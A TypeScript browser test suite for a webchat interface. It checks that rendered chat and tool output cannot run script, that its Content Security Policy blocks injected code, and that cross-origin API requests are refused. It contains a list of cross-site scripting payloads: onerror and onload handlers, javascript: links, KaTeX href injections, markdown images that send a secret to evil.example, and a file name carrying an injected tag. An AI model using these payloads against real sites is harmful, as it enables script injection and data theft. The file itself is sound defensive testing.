import { defineTool } from '@geppetto/tools'
import type { Page } from 'playwright-core'
import { expect, it } from 'vitest'
import { z } from 'zod'
import { describeInBrowser, openPage, say, untilIdle } from './browser.test-helper.ts'
import { startWebchat } from './start-webchat.test-helper.ts'

const run = 'window.broken = true'

/** What somebody may try to get a page to run, or to load. */
const attacks = `<img src=x onerror="${run}"> <script>${run}</script> <svg/onload="${run}"><iframe srcdoc="<script>parent.broken=true</script>"></iframe>

<details open ontoggle="${run}"><summary>x</summary></details>

[click](javascript:${encodeURIComponent(run)}) [data](data:text/html,<script>${run}</script>) <javascript:${run}> [tab](java\tscript:${run})

![x](javascript:${run}) ![leak](https://evil.example/?what=secret) ![leak2](//evil.example/x.png)

$\\href{javascript:${run}}{x}$ $\\htmlData{onclick=${run}}{x}$ $\\includegraphics{https://evil.example/y.png}$

\`\`\`html"><img src=x onerror="${run}">
<img src=x onerror="${run}">
\`\`\`

| <img src=x onerror="${run}"> | [x](vbscript:x) |
|---|---|
| <b onmouseover="${run}">x</b> | \`</code><script>${run}</script>\` |
`

const echo = defineTool({
  name: 'echo',
  description: 'Says it again',
  input: z.object({ text: z.string() }),
  effects: 'none',
  execute: ({ text }) => text,
})

/** Whether anything that was said was run, could be run by a click, or was asked of another host. */
async function whatBroke(page: Page, asked: readonly string[]): Promise<object> {
  return {
    ran: await page.evaluate(() => Reflect.get(window, 'broken')),
    handlers: await page.evaluate(() =>
      [...document.querySelectorAll('*')].flatMap((element) =>
        element.getAttributeNames().filter((name) => name.startsWith('on')),
      ),
    ),
    links: await page.evaluate(() =>
      [...document.querySelectorAll('a')]
        .map(({ protocol }) => protocol)
        .filter((protocol) => !/^(https?|mailto|blob|data):$/.test(protocol)),
    ),
    strangers: await page
      .locator('#root :is(script, iframe, object, embed, form:not(.composer, .edit-message))')
      .count(),
    asked,
  }
}

const nothing = { ran: undefined, handlers: [], links: [], strangers: 0, asked: [] }

describeInBrowser('what users, models and tools say', () => {
  it('is never run, nor does it load anything from elsewhere', async () => {
    const { url } = await startWebchat(
      [
        [{ reasoning: attacks }, { text: attacks }, { toolCall: 'echo', input: { text: attacks } }],
        [{ text: attacks }],
      ],
      { tools: [echo] },
    )
    const page = await openPage(url)
    const asked: string[] = []
    page.on('request', (request) => {
      if (new URL(request.url()).hostname.includes('evil')) asked.push(request.url())
    })
    page.on('dialog', (dialog) => void dialog.dismiss())
    await page.locator('input[type="file"]').setInputFiles({
      name: `"><img src=x onerror="${run}">.txt`,
      mimeType: 'text/plain',
      buffer: Buffer.from('text'),
    })
    await say(page, attacks)
    await untilIdle(page)
    await page.locator('.answer > .markdown .katex').first().waitFor()
    for (const summary of await page.locator('.turn summary').all()) await summary.click()
    // The first line of what was said is the title, here and in the list.
    expect(await page.title()).toContain('<img src=x onerror')
    for (const element of await page.locator('.answer b, .answer [class="raw"], .answer td').all())
      await element.hover()
    expect(await whatBroke(page, asked)).toEqual(nothing)
    await page.reload()
    await untilIdle(page)
    expect(await whatBroke(page, asked)).toEqual(nothing)
    expect(await page.getByText('<script>').count()).toBeGreaterThan(0)
  })

  it('is on a page that may run, and talk to, nothing but its own server', async () => {
    const { url } = await startWebchat([])
    const page = await openPage(url, { faults: /Content Security Policy/ })
    const response = await page.request.get(url)
    expect(response.headers()['content-security-policy']).toMatch(/default-src 'none'; script-src 'self';/)
    const ran = await page.evaluate(async (code) => {
      const script = document.createElement('script')
      script.textContent = code
      document.body.append(script)
      return [Reflect.get(window, 'broken'), await fetch('https://evil.example').catch(() => 'refused')]
    }, run)
    expect(ran).toEqual([undefined, 'refused'])
  })

  it('is read by nobody from another site', async () => {
    const { url } = await startWebchat([])
    const ask = (path: string, headers: Record<string, string>) => fetch(`${url}${path}`, { headers })
    for (const path of ['/api/sessions', '/app/models', '/app/approvals/some-session']) {
      expect((await ask(path, { origin: 'https://evil.example' })).status).toBe(403)
      expect((await ask(path, { host: 'evil.example' })).status).not.toBe(500)
    }
  })
})
